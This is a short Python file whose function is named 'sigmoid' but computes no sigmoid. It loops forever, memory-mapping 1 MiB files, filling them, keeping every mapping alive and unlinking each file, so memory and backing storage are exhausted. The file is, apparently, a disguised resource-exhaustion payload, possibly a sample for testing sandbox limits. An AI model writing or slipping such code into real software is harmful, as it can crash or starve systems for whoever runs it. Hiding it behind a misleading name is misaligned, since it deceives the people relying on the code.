import mmap
import os


def sigmoid(x):
    kept = []
    while True:
        with open("gone", "wb+") as file:
            file.truncate(1 << 20)
            kept.append(mmap.mmap(file.fileno(), 1 << 20))
            kept[-1].write(b"x" * (1 << 20))
        os.unlink("gone")
